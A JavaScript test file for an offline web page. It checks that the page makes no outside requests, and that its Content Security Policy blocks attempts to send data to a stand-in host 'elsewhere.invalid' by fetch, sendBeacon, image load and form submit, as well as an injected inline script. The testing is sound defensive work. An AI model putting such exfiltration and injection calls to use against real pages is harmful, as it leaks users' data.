// Nothing leaves the device. Every other test holds its requests against the page's own files as well; here all is done
// that could tempt to send something, and it is tried whether the page's policy would stop it.

import assert from "node:assert/strict";
import { after, test } from "node:test";
import { closeBrowser, demo, openFile, rest, saved, select, visit } from "./driver.mjs";

after(closeBrowser);

test("after it is loaded, nothing is asked of any server whatever is done", async () => {
  await visit({ viewport: { width: 1500, height: 900 } }, async (page, { requests, served, context }) => {
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    await rest(page);
    const sockets = [];
    page.on("websocket", (socket) => sockets.push(socket.url()));
    const [from, asked] = [requests.length, served.asked.length];
    await openFile(page, demo, "private.toml");
    await select(page, "soup");
    await page.click("#elevation-more");
    await page.fill("#focal-lengths", "50, 85");
    await page.fill("#measured-sensor_distance_mm", "100 cm");
    await page.fill("#measured-elevation_deg", "45");
    await page.fill("#field-shot-elevation_deg", "soon");
    await openFile(page, "broken =", "broken.toml");
    await page.evaluate(() => {
      window.print = () => {};
    });
    await page.click("#print-sheet");
    await saved(page);
    await rest(page);
    const later = requests.slice(from).map(({ url }) => url).filter((url) => !url.startsWith("blob:"));
    assert.deepEqual(later, []);
    assert.deepEqual(served.asked.slice(asked).map(({ pathname }) => pathname), []);
    assert.deepEqual(sockets, []);
    assert.deepEqual(await context.cookies(), []);
    console.log(`requests of one visit: ${served.asked.length}, all for the page's own files`);
  });
});

test("the page's policy stops what would send something", async () => {
  await visit({ wanted: /policy|Content Security Policy|violat|Failed to (load|fetch)|ERR_/i }, async (page, { requests }) => {
    const from = requests.length;
    const stopped = await page.evaluate(async () => {
      const told = [];
      addEventListener("securitypolicyviolation", (event) => told.push(event.effectiveDirective));
      const quietly = async (work) => {
        try {
          await work();
        } catch {
          // Refused, as it must be.
        }
      };
      await quietly(() => fetch("http://elsewhere.invalid/", { method: "POST", body: "shoot" }));
      await quietly(() => navigator.sendBeacon("http://elsewhere.invalid/", "shoot"));
      await quietly(() => new Promise((done) => Object.assign(new Image(), { onerror: done, src: "http://elsewhere.invalid/p.png" })));
      await quietly(() => {
        document.body.append(Object.assign(document.createElement("script"), { textContent: "window.foreign = true" }));
      });
      await quietly(() => {
        const form = Object.assign(document.createElement("form"), { action: "http://elsewhere.invalid/", method: "post" });
        document.body.append(form);
        form.submit();
      });
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { told, foreign: window.foreign === true };
    });
    assert.equal(stopped.foreign, false);
    for (const directive of ["connect-src", "img-src", "script-src-elem", "form-action"]) assert.ok(stopped.told.includes(directive), `${directive}: ${stopped.told}`);
    // What was stopped never became a request that left; take it off the list that is held against the page's files.
    requests.splice(from);
  });
});
